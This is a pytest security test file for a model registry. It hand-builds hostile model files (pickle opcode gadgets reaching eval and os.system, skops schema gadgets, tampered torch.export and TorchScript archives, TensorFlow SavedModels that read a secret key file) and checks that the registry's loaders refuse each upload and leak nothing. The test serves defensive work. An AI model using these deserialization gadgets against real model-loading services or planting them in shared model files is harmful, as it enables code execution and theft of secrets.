"""Issue 12, item 6: real hostile model files, uploaded with a write-scope key, do no harm.

Each file below is built for real (pickle opcodes, skops schemas, torch.export / TorchScript archives, a TF
SavedModel) and aims at the registry itself: it reads `secret.key` or a text file in the data directory, writes
a marker file outside its job, or runs a command that would. All of them are uploaded at module start to one
in-process registry with two conversion workers, next to a victim version; then each test checks that its
conversion ended failed/impossible with a short reason and that nothing happened:
no marker file, no secret (or planted text) in any artifact or reason, the victim's bytes still match its hash,
no new API key row.

These show the loaders' defence in depth; the job sandbox (branch `iso`) is the boundary for what they miss.
"""

from __future__ import annotations

import base64
import hashlib
import importlib.util
import io
import json
import pickle
import sqlite3
import struct
import time
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from conftest import bearer
from litestar.testing import TestClient

from octomil_lite.config import Config
from octomil_lite.errors import MAX_REASON_CHARS
from octomil_lite.server.app import create_app

FINAL = ("ready", "failed", "impossible", "unavailable")
WAIT = 300.0


def have(*modules: str) -> bool:
    return all(importlib.util.find_spec(m) is not None for m in modules)


# ---- a tiny pickle assembler: gadgets are written as the opcodes an attacker would write ----

def g(module: str, name: str) -> bytes:
    """GLOBAL: push module.name (resolved through the unpickler's find_class)."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def s(text: str) -> bytes:
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


NONE = b"N"


def call(func: bytes, *args: bytes) -> bytes:
    """REDUCE: push func(*args); func may itself be any expression."""
    return func + b"(" + b"".join(args) + b"tR"


def tup(*items: bytes) -> bytes:
    return b"(" + b"".join(items) + b"t"


def build(obj: bytes, state: bytes) -> bytes:
    """BUILD: obj.__setstate__(state)."""
    return obj + state + b"b"


def program(expr: bytes) -> bytes:
    return b"\x80\x02" + expr + b"."


# ---- the registry under attack ----

@dataclass
class Attack:
    name: str
    model_id: str
    version: int


@dataclass
class Scene:
    client: TestClient[Any]
    data_dir: Path
    attacker: dict[str, str]
    admin: dict[str, str]
    markers: Path
    secret: bytes
    planted: str
    victim: tuple[str, int, str]
    key_rows: int
    attacks: dict[str, Attack] = field(default_factory=dict)

    def upload(self, name: str, content: bytes, filename: str, framework: str, **fields: str) -> None:
        model = self.client.post("/api/v1/models", json={"name": f"attack-{len(self.attacks)}",
                                                         "framework": framework}, headers=self.attacker)
        assert model.status_code == 201, model.text
        resp = self.client.post(f"/api/v1/models/{model.json()['id']}/versions/upload", headers=self.attacker,
                                files={"file": (filename, content)}, data={"format": framework, **fields})
        assert resp.status_code == 201, resp.text
        self.attacks[name] = Attack(name, model.json()["id"], resp.json()["version"])

    def wait(self, attack: Attack, fmt: str = "onnx") -> dict[str, Any]:
        deadline = time.monotonic() + WAIT
        while True:
            resp = self.client.get(f"/api/v1/models/{attack.model_id}/versions/{attack.version}",
                                   headers=self.attacker)
            status = resp.json()["formats"][fmt]
            if status["status"] in FINAL:
                return status  # type: ignore[no-any-return]
            assert time.monotonic() < deadline, status
            time.sleep(0.2)

    def marker(self, name: str) -> Path:
        return self.markers / name


def _signs_of(secret: bytes, planted: str) -> list[bytes]:
    """What a leaked secret or planted text looks like in a reason, an artifact or a log."""
    return [secret[:12], secret.hex()[:24].encode(), base64.b64encode(secret)[:16], repr(secret[:8])[2:-1].encode(),
            planted.encode(), planted[:16].encode()]


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    tmp = tmp_path_factory.mktemp("hostile")
    markers = tmp / "markers"
    markers.mkdir()
    config = Config(data_dir=tmp / "data", rate_limit=0, conversion_workers=2)
    with TestClient(app=create_app(config), timeout=60) as client:
        registry = client.app.state.registry
        admin = bearer(client.blocking_portal.call(registry.create_key, "owner", "admin"))
        attacker = bearer(client.blocking_portal.call(registry.create_key, "collaborator", "write"))
        victim_model = client.post("/api/v1/models", json={"name": "victim", "framework": "sklearn"}, headers=admin)
        victim_bytes = _victim_pickle()
        up = client.post(f"/api/v1/models/{victim_model.json()['id']}/versions/upload", headers=admin,
                         files={"file": ("victim.pkl", victim_bytes)}, data={"format": "sklearn"})
        assert up.status_code == 201, up.text
        planted = "PLANTED-" + hashlib.sha256(str(tmp).encode()).hexdigest()[:24]
        (config.data_dir / "notes.txt").write_text(planted + "\n")
        scene = Scene(client, config.data_dir, attacker, admin, markers,
                      (config.data_dir / "secret.key").read_bytes(), planted,
                      (victim_model.json()["id"], up.json()["version"], hashlib.sha256(victim_bytes).hexdigest()),
                      _key_rows(config.data_dir))
        _upload_pickles(scene)
        _upload_skops(scene)
        if have("torch"):
            _upload_torch(scene, tmp)
        if have("tensorflow"):
            _upload_saved_model(scene, tmp)
        yield scene


def _victim_pickle() -> bytes:
    from sklearn.linear_model import LogisticRegression

    rng = np.random.RandomState(0)
    return pickle.dumps(LogisticRegression().fit(rng.rand(30, 4), [0, 1] * 15))


def _key_rows(data_dir: Path) -> int:
    with sqlite3.connect(f"file:{data_dir / 'registry.sqlite3'}?mode=ro", uri=True) as db:
        return int(db.execute("SELECT COUNT(*) FROM api_keys").fetchone()[0])


# ---- pickles: gadgets through functions the old package-wide allowlist admitted ----

def _pickle_gadgets(scene: Scene) -> dict[str, bytes]:
    secret = str(scene.data_dir / "secret.key")
    notes = str(scene.data_dir / "notes.txt")

    def touch(name: str) -> str:
        return f"open({str(scene.marker(name))!r}, 'w').write('pwned')"

    return {
        # eval reached through a scikit-learn helper that is getattr in disguise:
        # _estimator_has("get", ("__builtins__",))(check_array) is check_array.__builtins__.get
        "sklearn-getattr-to-eval": program(call(call(call(call(
            g("sklearn.utils.validation", "_estimator_has"), s("get"), tup(s("__builtins__"))),
            g("sklearn.utils.validation", "check_array")), s("eval")), s(touch("sklearn-getattr-to-eval")))),
        "numpy-fromregex-secret": program(call(g("numpy", "fromregex"), s(secret), s("(.+)"), s("S64"))),
        "numpy-genfromtxt-secret": program(call(g("numpy", "genfromtxt"), s(secret), s("S64"))),
        "numpy-loadtxt-notes": program(call(g("numpy", "loadtxt"), s(notes))),
        "numpy-runstring-exec": program(call(g("numpy.testing._private.utils", "runstring"),
                                             s(touch("numpy-runstring-exec")), b"}")),
        "operator-attrgetter-system": program(call(call(call(g("operator", "attrgetter"), s("system")),
                                                        call(g("importlib", "import_module"), s("os"))),
                                                   s(f"touch {scene.marker('operator-attrgetter-system')}"))),
        "functools-partial-system": program(call(call(g("functools", "partial"), g("os", "system"),
                                                      s(f"touch {scene.marker('functools-partial-system')}")))),
        # a partial of an allowlisted function whose state then swaps in an allowlisted class that reads files
        "functools-partial-state-swap": program(call(build(
            call(g("functools", "partial"), g("sklearn.utils.validation", "check_array")),
            tup(g("lightgbm.basic", "Booster"), tup(), b"}" + s("model_file") + s(secret) + b"s", NONE)))),
        "builtins-getattr-import": program(call(call(g("builtins", "getattr"),
                                                     call(g("builtins", "__import__"), s("os")), s("system")),
                                                s(f"touch {scene.marker('builtins-getattr-import')}"))),
        # an allowlisted class whose constructor reads a file: only NEWOBJ may create it, REDUCE may not call it
        "lightgbm-booster-model-file": program(call(g("lightgbm.basic", "Booster"), NONE, NONE, s(secret))),
        # an allowlisted reconstructor handed a callable to call
        "numpy-randomstate-ctor-callable": program(call(g("numpy.random._pickle", "__randomstate_ctor"),
                                                        s(secret), g("sklearn.utils.validation", "check_array"))),
    }


def _upload_pickles(scene: Scene) -> None:
    for name, data in _pickle_gadgets(scene).items():
        scene.upload(name, data, "model.pkl", "sklearn")
    import joblib

    payload = np.empty(1, dtype=object)
    payload[0] = _Evals(f"open({str(scene.marker('joblib-object-array'))!r}, 'w').write('pwned')")
    buf = io.BytesIO()
    joblib.dump({"coef": np.ones(3), "extra": payload}, buf, compress=3)
    scene.upload("joblib-object-array", buf.getvalue(), "model.joblib", "sklearn")


class _Evals:
    def __init__(self, code: str):
        self.code = code

    def __reduce__(self) -> tuple[Any, ...]:
        return (eval, (self.code,))


PICKLE_ATTACKS = ["sklearn-getattr-to-eval", "numpy-fromregex-secret", "numpy-genfromtxt-secret",
                  "numpy-loadtxt-notes", "numpy-runstring-exec", "operator-attrgetter-system",
                  "functools-partial-system", "functools-partial-state-swap", "builtins-getattr-import",
                  "lightgbm-booster-model-file", "numpy-randomstate-ctor-callable", "joblib-object-array"]


# ---- skops: constructor gadgets in the schema ----

def _skops_with(node: dict[str, Any]) -> bytes:
    """A real skops file of a FunctionTransformer pipeline whose `func` is replaced by `node`."""
    import skops.io
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import FunctionTransformer

    rng = np.random.RandomState(0)
    pipe = make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()).fit(rng.rand(30, 4), [0, 1] * 15)
    buf = io.BytesIO()
    skops.io.dump(pipe, buf)
    with zipfile.ZipFile(io.BytesIO(buf.getvalue())) as src:
        schema = json.loads(src.read("schema.json"))
        text = json.dumps(schema)
        old = '{"__class__": "log1p", "__module__": "numpy", "__loader__": "FunctionNode"'
        start = text.index(old)
        end = text.index("}", start) + 1
        text = text[:start] + json.dumps(node) + text[end:]
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as dst:
            for item in src.infolist():
                dst.writestr(item, text if item.filename == "schema.json" else src.read(item))
    return out.getvalue()


def _json_node(value: Any) -> dict[str, Any]:
    return {"__class__": type(value).__name__, "__module__": "builtins", "__loader__": "JsonNode",
            "content": json.dumps(value), "is_json": True, "__id__": id(value)}


def _tuple_node(*values: Any) -> dict[str, Any]:
    return {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
            "content": [_json_node(v) for v in values], "__id__": 7}


def _upload_skops(scene: Scene) -> None:
    if not have("skops"):
        return
    secret = str(scene.data_dir / "secret.key")
    gadgets = {
        "skops-reduce-fromregex": {"__class__": "fromregex", "__module__": "numpy",
                                   "__loader__": "ConstructorFromReduceNode",
                                   "content": _tuple_node(secret, "(.+)", "S64"), "__id__": 11},
        "skops-reduce-booster-file": {"__class__": "Booster", "__module__": "lightgbm.basic",
                                      "__loader__": "ConstructorFromReduceNode",
                                      "content": _tuple_node(None, None, secret), "__id__": 12},
        "skops-function-eval": {"__class__": "eval", "__module__": "builtins", "__loader__": "FunctionNode",
                                "__id__": 13},
        "skops-method-node": {"__class__": "method", "__module__": "builtins", "__loader__": "MethodNode",
                              "content": {"func": "system", "obj": {"__class__": "os", "__module__": "builtins",
                                                                    "__loader__": "TypeNode", "__id__": 14}},
                              "__id__": 15},
        "skops-operator-attrgetter": {"__class__": "attrgetter", "__module__": "operator",
                                      "__loader__": "OperatorFuncNode",
                                      "content": {"attrs": _tuple_node("system")}, "__id__": 16},
    }
    for name, node in gadgets.items():
        scene.upload(name, _skops_with(node), "model.skops", "sklearn")


SKOPS_ATTACKS = ["skops-reduce-fromregex", "skops-reduce-booster-file", "skops-function-eval", "skops-method-node",
                 "skops-operator-attrgetter"]


# ---- PyTorch: .pt2 archives with pickled or executable entries, TorchScript __setstate__ ----

class _Touches:
    def __init__(self, path: Path):
        self.path = str(path)

    def __reduce__(self) -> tuple[Any, ...]:
        return (eval, (f"open({self.path!r}, 'w').write('pwned') and None",))


def _pt2(tmp: Path, edit: Callable[[str, bytes], bytes | None], extra: dict[str, bytes] | None = None) -> bytes:
    """A real torch.export archive of a small Linear model with entries rewritten by `edit(name, data)`."""
    import torch

    net = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU()).eval()
    path = tmp / "clean.pt2"
    if not path.exists():
        torch.export.save(torch.export.export(net, (torch.randn(2, 4),)), str(path))
    out = io.BytesIO()
    with zipfile.ZipFile(path) as src, zipfile.ZipFile(out, "w") as dst:
        root = src.namelist()[0].split("/")[0]
        for item in src.infolist():
            data = edit(item.filename.split("/", 1)[1], src.read(item))
            if data is not None:
                dst.writestr(item.filename, data)
        for name, data in (extra or {}).items():
            dst.writestr(f"{root}/{name}", data)
    return out.getvalue()


def _torch_pickle(obj: Any) -> bytes:
    import torch

    buf = io.BytesIO()
    torch.save(obj, buf)
    return buf.getvalue()


def _upload_torch(scene: Scene, tmp: Path) -> None:
    import torch

    def pickled_weight(name: str, data: bytes) -> bytes:
        if name == "data/weights/model_weights_config.json":
            config = json.loads(data)
            config["config"]["0.weight"]["use_pickle"] = True
            return json.dumps(config).encode()
        if name == "data/weights/weight_0":
            return _torch_pickle(_Touches(scene.marker("pt2-use-pickle")))
        return data

    def evil_sample_inputs(name: str, data: bytes) -> bytes:
        return _torch_pickle((_Touches(scene.marker("pt2-sample-inputs")),)) if "sample_inputs" in name else data

    def guard_code(name: str, data: bytes) -> bytes:
        if name.startswith("models/"):
            program_json = json.loads(data)
            program_json["guards_code"] = [f"open({str(scene.marker('pt2-guards-code'))!r}, 'w').write('x') > 0"]
            return json.dumps(program_json).encode()
        return data

    def from_file_op(name: str, data: bytes) -> bytes:
        if name.startswith("models/"):
            return data.replace(b"torch.ops.aten.relu.default", b"torch.ops.aten.from_file.default")
        return data

    def opaque_constant(name: str, data: bytes) -> bytes:
        if name == "data/constants/model_constants_config.json":
            return json.dumps({"config": {"blob": {"path_name": "opaque_obj_0", "is_param": False,
                                                   "use_pickle": False, "tensor_meta": None}}}).encode()
        return data

    def legacy(name: str, data: bytes) -> bytes | None:
        return None if name.startswith("data/weights/") else data

    scene.upload("pt2-use-pickle", _pt2(tmp, pickled_weight), "model.pt2", "pytorch")
    scene.upload("pt2-sample-inputs", _pt2(tmp, evil_sample_inputs), "model.pt2", "pytorch")
    scene.upload("pt2-guards-code", _pt2(tmp, guard_code), "model.pt2", "pytorch")
    scene.upload("pt2-from-file-op", _pt2(tmp, from_file_op), "model.pt2", "pytorch")
    scene.upload("pt2-opaque-object", _pt2(tmp, opaque_constant, {
        "data/constants/opaque_obj_0": pickle.dumps(_Touches(scene.marker("pt2-opaque-object")))}),
        "model.pt2", "pytorch")
    scene.upload("pt2-legacy-weights", _pt2(tmp, legacy, {
        "data/weights/model.pt": _torch_pickle(_Touches(scene.marker("pt2-legacy-weights")))}),
        "model.pt2", "pytorch")

    secret = str(scene.data_dir / "secret.key")
    marker = str(scene.marker("torchscript-from-file"))

    class FromFile(torch.nn.Module):
        def __init__(self) -> None:
            super().__init__()
            self.w = torch.zeros(4)
            self.secret_path = secret
            self.marker_path = marker

        @torch.jit.export
        def __getstate__(self) -> tuple[torch.Tensor, bool, str, str]:
            return (self.w, self.training, self.secret_path, self.marker_path)

        @torch.jit.export
        def __setstate__(self, state: tuple[torch.Tensor, bool, str, str]) -> None:
            # Runs inside torch.jit.load: reads the registry's secret, creates a file with shared=True.
            self.w = torch.from_file(state[2], False, 32, dtype=torch.uint8).float()[:4]
            torch.from_file(state[3], True, 8, dtype=torch.uint8)
            self.training = state[1]
            self.secret_path = state[2]
            self.marker_path = state[3]

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + self.w

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(FromFile()), buf)
    scene.upload("torchscript-from-file", buf.getvalue(), "model.pt", "pytorch", input_shape="2,4")


TORCH_ATTACKS = ["pt2-use-pickle", "pt2-sample-inputs", "pt2-guards-code", "pt2-from-file-op", "pt2-opaque-object",
                 "pt2-legacy-weights", "torchscript-from-file"]


# ---- TensorFlow: a SavedModel whose graph reads the secret and writes a marker when run ----

def _upload_saved_model(scene: Scene, tmp: Path) -> None:
    import tensorflow as tf

    secret = str(scene.data_dir / "secret.key")

    class StealsOnLoad(tf.saved_model.experimental.TrackableResource):
        """tf.saved_model.load runs a resource's initializer: here it copies the secret to a marker file."""

        def __init__(self, marker: str):
            self.marker = marker
            super().__init__()

        def _create_resource(self) -> Any:
            return tf.raw_ops.VarHandleOp(dtype=tf.float32, shape=[], shared_name="steals_on_load")

        def _initialize(self) -> Any:
            return tf.io.write_file(self.marker, tf.io.read_file(secret))

    class FileOps(tf.Module):
        def __init__(self, marker: str, on_load: bool) -> None:
            super().__init__()
            self.w = tf.Variable(tf.ones((4, 2)))
            self.marker = marker
            if on_load:
                self.resource = StealsOnLoad(marker)

        @tf.function(input_signature=[tf.TensorSpec((None, 4), tf.float32)])
        def __call__(self, x: Any) -> Any:
            stolen = tf.io.read_file(secret)
            tf.io.write_file(self.marker, stolen)
            return tf.matmul(x, self.w) + tf.cast(tf.strings.length(stolen), tf.float32) * 0.0

    for name, on_load in (("savedmodel-file-ops-on-load", True), ("savedmodel-file-ops-on-call", False)):
        module = FileOps(str(scene.marker(name)), on_load)
        directory = tmp / name
        tf.saved_model.save(module, str(directory), signatures=module.__call__)
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            for path in sorted(directory.rglob("*")):
                if path.is_file():
                    archive.write(path, str(path.relative_to(directory)))
        scene.upload(name, out.getvalue(), "saved_model.zip", "tensorflow")


# ---- what "no harm" means ----

def _every_file(root: Path) -> Iterator[Path]:
    for path in root.rglob("*"):
        if path.is_file() and not path.is_symlink():
            yield path


def assert_no_harm(scene: Scene, attack: Attack, status: dict[str, Any]) -> None:
    assert status["status"] in ("failed", "impossible"), status
    reason = status["reason"] or ""
    assert 0 < len(reason) <= MAX_REASON_CHARS, reason
    assert not scene.marker(attack.name).exists(), "the payload created its marker file"
    assert not [p for p in _every_file(scene.data_dir) if "pwned" in p.name or p.name.startswith("marker")]
    signs = _signs_of(scene.secret, scene.planted)
    for sign in signs:
        assert sign not in reason.encode(), f"the reason leaks file contents: {reason}"
    for path in _every_file(scene.data_dir / "blobs"):
        data = path.read_bytes()
        assert not any(sign in data for sign in signs), f"{path} holds the secret or planted text"
    model_id, version, digest = scene.victim
    resp = scene.client.get(f"/api/v1/models/{model_id}/versions/{version}/download", headers=scene.admin)
    assert resp.status_code == 200 and hashlib.sha256(resp.content).hexdigest() == digest
    assert resp.headers["x-model-hash"] == f"sha256:{digest}"
    assert _key_rows(scene.data_dir) == scene.key_rows, "a payload added an API key"
    assert (scene.data_dir / "secret.key").read_bytes() == scene.secret
    download = scene.client.get(f"/api/v1/models/{attack.model_id}/versions/{attack.version}/download",
                                params={"format": "onnx"}, headers=scene.attacker)
    assert download.status_code == 404, "a hostile upload produced a downloadable artifact"


def _settled(scene: Scene, name: str) -> tuple[Attack, dict[str, Any]]:
    if name not in scene.attacks:
        pytest.skip(f"{name} needs a framework that is not installed")
    attack = scene.attacks[name]
    return attack, scene.wait(attack)


@pytest.mark.parametrize("name", PICKLE_ATTACKS)
def test_pickle_gadget_is_refused_and_does_no_harm(scene: Scene, name: str) -> None:
    attack, status = _settled(scene, name)
    assert status["status"] == "failed" and "refused to unpickle" in status["reason"], status
    assert_no_harm(scene, attack, status)


@pytest.mark.parametrize("name", SKOPS_ATTACKS)
def test_skops_gadget_is_refused_and_does_no_harm(scene: Scene, name: str) -> None:
    attack, status = _settled(scene, name)
    assert status["status"] == "failed" and "refused to unpickle" in status["reason"], status
    assert_no_harm(scene, attack, status)


@pytest.mark.parametrize("name", [n for n in TORCH_ATTACKS if n.startswith("pt2-")])
def test_pt2_with_pickled_or_executable_entries_is_refused_before_torch_loads_it(scene: Scene, name: str) -> None:
    attack, status = _settled(scene, name)
    assert status["status"] == "failed", status
    assert_no_harm(scene, attack, status)


def test_torchscript_setstate_reading_the_secret_with_from_file_is_refused(scene: Scene) -> None:
    attack, status = _settled(scene, "torchscript-from-file")
    assert "from_file" in status["reason"], status
    assert_no_harm(scene, attack, status)


@pytest.mark.parametrize("name", ["savedmodel-file-ops-on-load", "savedmodel-file-ops-on-call"])
def test_saved_model_read_file_and_write_file_ops_are_refused_and_do_no_harm(scene: Scene, name: str) -> None:
    attack, status = _settled(scene, name)
    assert status["status"] == "failed" and "reads or writes files" in status["reason"], status
    assert_no_harm(scene, attack, status)
